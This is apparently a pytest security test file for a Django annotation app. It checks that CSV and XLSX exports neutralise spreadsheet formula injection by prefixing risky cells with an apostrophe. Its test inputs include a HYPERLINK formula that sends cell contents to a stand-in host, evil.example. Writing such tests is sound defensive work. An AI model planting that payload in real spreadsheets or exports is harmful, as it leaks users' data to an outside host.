"""No export hands a spreadsheet a formula (issue 17, finding 3): one writer, every CSV and XLSX export."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import get_resolver

pytestmark = [pytest.mark.security, pytest.mark.django_db]

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "  =1+1"]
# Every export route and the test that shows its cells are defused.
EXPORTS = {
    "dataset-export-csv": "test_dataset_csv_defuses_every_text_cell (here)",
    "dataset-export-json": "JSON, not a spreadsheet format",
    "analytics-export": "test_analytics_figures.py::test_csv_reports_has_times_and_error_counts_and_defuses_formulas",
    "analytics-export-xlsx": "test_xlsx_cells_are_text_never_formulas (here)",
    "audit-export": "test_audit.py::test_csv_export_streams_escapes_formulas_and_is_itself_recorded",
    "study-result-sr-export": "a DICOM SR written to Orthanc, not a spreadsheet",
}


def test_every_export_route_is_covered():
    names = {n for n in get_resolver().reverse_dict if isinstance(n, str) and "export" in n}
    assert names == set(EXPORTS), "a new export: defuse its cells (backend.spreadsheets) and list its test here"


@pytest.mark.parametrize("value", HOSTILE)
def test_the_one_rule(value):
    from backend.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("L4-L5 disc") == "L4-L5 disc" and spreadsheet_safe(-1) == -1 and spreadsheet_safe(0.5) == 0.5


def test_dataset_csv_defuses_every_text_cell(client_for, users):
    from backend.annotations.models import LabelTask, VerifiedLabels
    from backend.training import datasets

    for n, value in enumerate(HOSTILE):
        task = LabelTask.objects.create(study_instance_uid=f"1.2.3.{n}", patient_id=value, source=LabelTask.IMPORTED,
                                        text=f"report {n}", text_sha256=f"{n:064d}", status=LabelTask.DONE)
        VerifiedLabels.objects.create(task=task, labels={"herniation": 1, "stenosis": -1}, method=VerifiedLabels.SINGLE)
    ds = datasets.snapshot("formulas", user=users["admin"], seed=1)
    response = client_for("admin").get(f"/api/training/datasets/{ds.pk}/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, data = rows[0], rows[1:]
    patient = header.index("patient_id")
    assert sorted(r[patient] for r in data) == sorted("'" + v for v in HOSTILE)
    for row in data:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("'"), row
        assert row[header.index("stenosis")] == "-1"  # numbers stay numbers


def test_xlsx_cells_are_text_never_formulas():
    from openpyxl import load_workbook

    from backend.analytics.exports import Table, xlsx_file

    handle = xlsx_file([Table("reports", ["reader", "n"], iter([[v, 1] for v in HOSTILE]), len(HOSTILE))])
    sheet = load_workbook(handle).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(str(c).startswith("'") for c in cells), cells
    assert all(cell.data_type == "s" for cell in sheet["A"][1:])
